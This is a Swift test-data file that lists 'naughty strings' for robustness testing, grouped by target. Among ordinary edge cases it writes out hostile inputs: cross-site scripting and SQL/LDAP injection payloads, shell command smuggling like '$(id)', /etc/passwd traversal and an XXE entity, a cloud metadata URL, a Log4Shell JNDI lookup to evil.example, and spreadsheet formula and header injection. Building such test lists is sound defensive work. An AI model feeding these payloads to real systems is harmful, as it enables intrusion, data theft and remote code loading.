/// Strings that have broken readers, logs, queries and pages elsewhere, by what they aim at.
package enum NaughtyStrings {
    /// White space and what only looks like it.
    static let blanks: [String] = [
        "", " ", "  ", "\t", "\n", "\r\n", "\u{A0}", "\u{1680}", "\u{2003}", "\u{2028}", "\u{2029}", "\u{202F}",
        "\u{205F}", "\u{3000}", "\u{200B}", "\u{200C}", "\u{200D}", "\u{2060}", "\u{FEFF}", "\u{AD}", "\u{34F}",
        "\u{61C}", "\u{115F}", "\u{180E}", "\u{3164}", "\u{FFA0}",
    ]

    /// Words with a meaning somewhere.
    static let words: [String] = [
        "undefined", "undef", "null", "NULL", "(null)", "nil", "NIL", "true", "false", "True", "None", "NaN",
        "Infinity", "-Infinity", "hasOwnProperty", "then", "__proto__", "constructor", "prototype", "toString", "CON",
        "PRN", "AUX", "NUL", "COM1", "LPT1", ".", "..", "~", "-", "--", "---", "*", "?", "admin", "root", "Object",
        "eval", "default", "me", "common", "organizations",
    ]

    /// Numbers, and what some readers take for one.
    static let numbers: [String] = [
        "0", "1", "-1", "1.00", "$1.00", "1/2", "1E2", "1E02", "-0", "0x0", "0xffffffff", "1,000.00", "1.000,00",
        "01000", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "1e400", "0.0/0",
        "\u{661}\u{662}\u{663}", "\u{FF11}", "\u{BD}", "\u{2155}", "\u{B2}", "\u{2168}", "\u{5341}",
    ]

    /// Quotes, escapes, formats, templates, shells.
    static let punctuation: [String] = [
        ",./;'[]\\-=", "<>?:\"{}|_+", "!@#$%^&*()`~", "'", "\"", "''", "\"\"", "'\"'", "\"'''\"", "\\", "\\\\", "%",
        "%00", "%s%s%s%n", "%d", "%n%n", "%p", "{0}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "$(id)", "`id`",
        "|id", ";id", "&& id", "\\x00", "\\u0000", "\u{2018}\u{2019}\u{201C}\u{201D}", "\u{AB}\u{BB}",
        "\u{FF0C}\u{FF1B}", "\u{37E}", "\u{2044}", "\u{29F8}", "\u{FF0F}",
    ]

    /// Control characters: terminals, lines of a log, headers.
    static let controls: [String] = [
        "\u{0}", "\u{1}", "\u{7}", "\u{8}", "\u{B}", "\u{C}", "\u{E}", "\u{1A}", "\u{1B}", "\u{1B}[31mred\u{1B}[0m",
        "\u{1B}]0;title\u{7}", "\u{7F}", "\u{80}", "\u{85}", "\u{9B}31m", "\u{9F}", "a\u{0}b", "a\rb",
        "a\r\nX-Injected: 1", "a\nlevel=error", "\r\n\r\n<html>",
    ]

    /// Look-alikes, marks, directions, noncharacters.
    static let unicode: [String] = [
        "\u{430}da", "\u{212A}", "\u{17F}", "\u{130}", "\u{131}", "\u{DF}", "\u{FB01}", "e\u{301}", "\u{E9}",
        "\u{212B}", "\u{1E9B}\u{323}",
        "Z\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
        "\u{202E}evil\u{202C}", "\u{2066}x\u{2069}", "\u{200F}\u{5D0}", "\u{6F1}", "\u{644}\u{627}", "\u{FDFA}",
        "\u{D55C}\u{AE00}", "\u{65E5}\u{672C}\u{8A9E}", "\u{20000}", "\u{1F600}",
        "\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}", "\u{1F1E9}\u{1F1EA}", "\u{1F44D}\u{1F3FF}",
        "\u{E0041}\u{E007F}", "\u{FE0F}", "\u{FFFD}", "\u{FFFE}", "\u{FFFF}", "\u{1FFFE}", "\u{10FFFF}",
        "\u{E000}", "\u{338}", "\u{20DD}", "\u{E01}\u{E33}", "\u{915}\u{94D}\u{937}", "\u{1100}\u{1161}", "\u{13A0}",
        "\u{1D4D0}", "\u{24D0}", "\u{FF41}", "\u{2100}",
    ]

    /// HTML and XML.
    static let markup: [String] = [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "javascript:alert(1)",
        "<a href=\"javascript:x\">x</a>", "]]>", "<![CDATA[x]]>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "<!--", "-->", "&lt;", "&#0;", "&#x41;",
        "</title>", "<b>bold</b>", "<br/>", "<iframe src=//evil.example>", "{{constructor}}", "<style>*{}</style>",
        "<x xmlns:y=\"z\"/>",
    ]

    /// SQL, LDAP, OData.
    static let queries: [String] = [
        "1;DROP TABLE users", "1'; --", "' OR 1=1 --", "\" OR \"\"=\"", "*)(uid=*))(|(uid=*", "$ne", "{\"$gt\":\"\"}",
        "subject eq 'x'", "$filter=1", "$select=*", "x)/$value", "microsoft.graph.cancel", "a;b=c", "a&b=c", "a?b",
        "a#b",
    ]

    /// Paths and addresses.
    static let paths: [String] = [
        "../../../../etc/passwd", "..\\..\\windows", "/dev/null", "C:\\", "\\\\host\\share", "file:///etc/passwd",
        "%2e%2e%2f", "%252e", "..%c0%af", "http://169.254.169.254/latest", "http://2852039166/", "//evil.example",
        "https://graph.microsoft.com", "http://[::1]:80/", "http://a@b", "gopher://x", "data:text/html,x",
        "mailto:a@b.example",
    ]

    /// What log viewers, spreadsheets, loaders and formatters act on.
    static let active: [String] = [
        "${jndi:ldap://evil.example/a}", "=1+1", "=cmd|' /C calc'!A1", "@SUM(1+1)", "+1+1", "-1+1", "!!binary x",
        "&anchor *anchor", "<<: *base", "%1$s", "%-99999d", "%.*f", "{0,number,#}", "{user.name}", "%(name)s", "#if",
        "@import", "{% raw %}", "[[[", "(((((((((((((((a+)+)+)+$", "(?i)x", "[^]", "\\1", "$1", "$&", "a{,99999}",
        "O:8:\"stdClass\":0:{}", "\u{AC}\u{ED}\u{0}\u{5}", "Set-Cookie: a=b", "Content-Length: 0",
        "Transfer-Encoding: chunked", "Bcc: all@contoso.example", "--boundary--", "=?utf-8?q?x?=",
    ]

    /// What closes a JSON text early or opens another in it.
    static let documents: [String] = [
        "\"}", "\"},{\"", "\",\"level\":\"error", "{\"data\":null}", "[1,2", "}]}", "{", "[", ",", ":", "//", "/*",
        "*/",
        "\\\"", "\\u0022", "\\ud800", "null,", "\u{FEFF}{}", "{\"$ref\":\"#\"}", "{\"__proto__\":{}}",
    ]

    /// Plain sentences, which must arrive as they are.
    static let sentences: [String] = [
        "The room is closed today; we meet next week.", "Raum gesperrt \u{2013} bis n\u{E4}chste Woche.",
        "R\u{E9}union annul\u{E9}e\u{A0}: \u{E0} bient\u{F4}t\u{A0}!",
        "\u{412}\u{441}\u{442}\u{440}\u{435}\u{447}\u{430} \u{43E}\u{442}\u{43C}\u{435}\u{43D}\u{435}\u{43D}\u{430}.",
        "\u{4F1A}\u{8BAE}\u{53D6}\u{6D88}\u{3002}", "\u{4F1A}\u{8B70}\u{306F}\u{4E2D}\u{6B62}\u{3067}\u{3059}",
        "\u{D68C}\u{C758} \u{CDE8}\u{C18C}",
        "\u{5D4}\u{5E4}\u{5D2}\u{5D9}\u{5E9}\u{5D4} \u{5D1}\u{5D5}\u{5D8}\u{5DC}\u{5D4} (room 4)",
        "\u{623}\u{64F}\u{644}\u{63A}\u{64A} \u{627}\u{644}\u{627}\u{62C}\u{62A}\u{645}\u{627}\u{639}, 12:30",
        "\u{92C}\u{948}\u{920}\u{915} \u{930}\u{926}\u{94D}\u{926}", "Cancelled \u{1F622} see you\u{2026}",
        "first line\nsecond line\n\n\tthird",
    ]

    /// Much of one thing.
    static let long = ["a", "\u{E9}", "\u{1F600}", "(", "\"", "\\", " ", "\n", "a\u{301}", "%"]
        .map { String(repeating: $0, count: 500) }

    package static let all =
        blanks + words + numbers + punctuation + controls + unicode + markup + queries + paths + active + documents
        + sentences + long
}
